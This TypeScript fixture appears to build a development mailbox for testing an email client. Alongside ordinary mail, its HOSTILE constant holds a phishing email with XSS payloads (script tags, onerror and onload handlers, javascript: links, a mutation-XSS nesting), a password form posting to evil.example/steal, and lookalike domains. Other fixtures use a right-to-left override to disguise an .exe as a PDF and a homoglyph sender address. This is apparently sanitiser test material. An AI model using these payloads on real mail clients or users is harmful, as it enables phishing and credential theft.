// A mailbox for development: ordinary mail, and some that means harm.
import type { Label, Message } from 'email-connectors-client';
import { ago } from './world.ts';

type Made = Partial<Message> & { id: string };

const ME = { name: 'Ada', address: 'ada@example.com' };
const PASS = { spf: 'pass', dkim: 'pass', dmarc: 'pass' } as const;

export const LABELS: Label[] = [
  ...['INBOX', 'UNREAD', 'STARRED', 'IMPORTANT', 'SENT', 'DRAFT', 'SPAM', 'TRASH', 'CATEGORY_UPDATES'].map(
    (id): Label => ({ id, name: id, type: 'system' }),
  ),
  { id: 'Label_7', name: 'Invoices/2026', type: 'user' },
  { id: 'Label_8', name: 'Travel', type: 'user' },
  { id: 'Label_9', name: 'לקוחות', type: 'user' },
];

function mail(seconds: number, made: Made): Message {
  return {
    thread_id: made.id,
    from: { name: 'Bo', address: 'bo@shop.example' },
    to: [ME],
    cc: [],
    reply_to: [],
    authentication: PASS,
    timestamp: ago(seconds),
    snippet: (made.body?.text ?? '').slice(0, 120).replace(/\s+/g, ' '),
    label_ids: ['INBOX'],
    has_attachments: (made.attachments?.length ?? 0) > 0,
    headers: { message_id: `<${made.id}@shop.example>` },
    metadata: { size_estimate: 2048 },
    ...made,
  };
}

const pdf = { part_id: '1', filename: 'invoice-2026-018.pdf', mime_type: 'application/pdf', size: 48_213, inline: false };

export const NEWSLETTER = `<html><head><style>
.card { border: 1px solid #ddd; border-radius: 8px; padding: 16px } h1 { color: #17693a } @media (max-width: 400px) { .two { display: block !important } }
@import url(https://tracker.example/a.css);</style></head><body bgcolor="#f2f5f3"><table width="100%" cellpadding="8"><tr><td align="center">
<div class="card" style="background:#fff;max-width:560px;text-align:left"><img src="cid:logo@garden.example" width="64" height="64" alt="Garden">
<h1>What to plant in June</h1><p>Beans, basil and <a href="https://garden.example/chard">chard</a>.</p>
<img src="https://tracker.example/open.gif?u=17" width="1" height="1" alt=""><img src="https://garden.example/bed.jpg" alt="A bed of chard" width="480" height="200">
<table class="two"><tr><td style="background-image:url(https://garden.example/t.png)">Two</td><td>columns</td></tr></table>
<p style="font-size:12px;color:#555">You get this since you asked for it. <a href="https://garden.example/out?u=17">Unsubscribe</a></p></div></td></tr></table></body></html>`;

export const HOSTILE = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import "https://evil.example/b.css"; body { background: url(https://evil.example/c.png) } .x { position: fixed; inset: 0 } a::after { content: "bank.example" }</style>
<script>parent.document.title = 'owned'; top.location = 'https://evil.example/'</script>
<p>Dear customer, your account is closed. <a href="https://bank.example.login.evil.example/" onclick="alert(1)">https://bank.example/login</a></p>
<p><a href="https://xn--pypal-4ve.example/">Pay here</a>, <a href="https://bank.example@evil.example/">or here</a>, <a href="javascript:alert(document.domain)">or run this</a>, <a href="/console/">or this</a>.</p>
<form action="https://evil.example/steal"><input name="password" type="password" placeholder="Your password"><button>Log in</button></form>
<img src="x" onerror="parent.document.title='owned'"><svg onload="parent.document.title='owned'"><script>parent.document.title='owned'</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.document.title='owned'"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y"><video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>
<div class="x" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">This covers the page.</div>
<picture><source srcset="https://evil.example/s.webp"><img src="https://evil.example/s.png" alt="A picture"></picture>
<table background="https://evil.example/t.png"><tr><td style="background:u\\72l(https://evil.example/u.png)">cell</td></tr></table>`;

const wide = () => `<table>${'<tr><td style="padding:2px">A row of a report that never ends</td><td><b>42</b></td></tr>'.repeat(55_000)}</table>`;

export const MESSAGES: Message[] = [
  mail(400, { id: '19b000000000000a', subject: 'Your invoice 2026-018', from: { name: 'Billing', address: 'billing@shop.example' }, label_ids: ['INBOX', 'UNREAD', 'Label_7'], body: { text: 'Hello Ada,\n\nplease find the invoice attached.\nTotal: 12.40 EUR\n\nBilling' }, attachments: [pdf] }),
  mail(3_000, { id: '19b000000000000b', subject: 'What to plant in June', from: { name: 'The garden letter', address: 'letter@garden.example' }, automatic: { kind: 'list', list_id: 'letter.garden.example' }, label_ids: ['INBOX', 'CATEGORY_UPDATES'], body: { html: NEWSLETTER, text: 'What to plant in June: beans, basil and chard.', text_from_html: true }, embedded: [{ part_id: '2', filename: 'logo.png', mime_type: 'image/png', size: 70, inline: true, content_id: 'logo@garden.example' }] }),
  mail(9_000, { id: '19b000000000000c', subject: 'Your account is closed', from: { name: 'Your bank', address: 'service@bаnk.example' }, reply_to: [{ address: 'collect@evil.example' }], authentication: { spf: 'pass', dmarc: 'fail' }, label_ids: ['INBOX', 'UNREAD'], body: { html: HOSTILE, text: 'Dear customer' }, attachments: [{ part_id: '1', filename: 'invoice\u202efdp.exe', mime_type: 'application/pdf', size: 9_437_184, inline: false }] }),
  mail(9_500, { id: '19b000000000000d', subject: '\u202egnp.eciovni rof txet desreveR pay\u200bpal', from: { name: 'ada@example.com', address: 'ada@ехаmple.example' }, authentication: null, label_ids: ['INBOX'], body: { text: 'A subject that turns its own direction, and a name that looks like an address.' } }),
  mail(90_000, { id: '19b000000000000e', subject: 'פגישה ביום שני', from: { name: 'דנה כהן', address: 'dana@office.example' }, label_ids: ['INBOX', 'Label_9'], body: { text: 'שלום עדה,\n\nנפגש ביום שני בשעה 10:00?\n\nדנה', html: '<div dir="rtl"><p>שלום עדה,</p><p>נפגש ביום שני בשעה 10:00?</p><p>דנה</p></div>' } }),
  mail(100_000, { id: '19b000000000000f', subject: 'The report of all reports', from: { name: 'Reports', address: 'reports@machine.example' }, automatic: { kind: 'notification' }, body: { text: 'A row of a report that never ends: 42\n'.repeat(20_000), html: wide() } }),
  mail(200_000, { id: '19b0000000000010', thread_id: '19b0000000000010', subject: 'Lunch?', from: { name: 'Cy', address: 'cy@example.com' }, cc: [{ address: 'dee@example.com' }, { name: 'Eve', address: 'eve@example.com' }], body: { text: 'Lunch on Tuesday?' } }),
  mail(190_000, { id: '19b0000000000011', thread_id: '19b0000000000010', subject: 'Re: Lunch?', from: ME, to: [{ name: 'Cy', address: 'cy@example.com' }], label_ids: ['SENT'], authentication: null, body: { text: 'Gladly. At the usual place?\n\n> Lunch on Tuesday?' } }),
  mail(180_000, { id: '19b0000000000012', thread_id: '19b0000000000010', subject: 'Re: Lunch?', from: { name: 'Cy', address: 'cy@example.com' }, label_ids: ['INBOX', 'STARRED'], body: { text: 'Yes, at one.\n\n>> Lunch on Tuesday?\n> Gladly. At the usual place?' } }),
  mail(300_000, { id: '19b0000000000013', subject: 'Undelivered: Your order', from: { name: 'Mail Delivery', address: 'mailer-daemon@example.com' }, automatic: { kind: 'bounce' }, body: { text: 'The mail to bob@shop.example was not delivered: no such user.' } }),
  mail(310_000, { id: '19b0000000000014', subject: null, body: { text: '' } }),
  ...Array.from({ length: 26 }, (_, at) =>
    mail(320_000 + at * 9_000, {
      id: `19b00000000001${(at + 16).toString(16)}`,
      subject: ['Your order is on its way', 'Minutes of the meeting', 'Invoice 2026-0' + (17 - at), 'Out of office'][at % 4]!,
      from: [{ name: 'Shop', address: 'orders@shop.example' }, { name: 'Dee', address: 'dee@example.com' }, { name: 'Billing', address: 'billing@other.example' }, { address: 'eve@example.com' }][at % 4]!,
      body: { text: 'An ordinary mail of no particular interest.' },
      ...(at % 4 === 2 && { attachments: [pdf] }),
      ...(at % 4 === 3 && { automatic: { kind: 'reply' as const } }),
    }),
  ),
];

export type DraftOf = { id: string; message: Message };
export const DRAFTS: DraftOf[] = [
  { id: 'r-1', message: mail(5_000, { id: '19b00000000000d1', subject: 'Offer', from: ME, to: [{ name: 'Bo', address: 'bo@shop.example' }], label_ids: ['DRAFT'], authentication: null, body: { text: 'Dear Bo,' } }) },
];
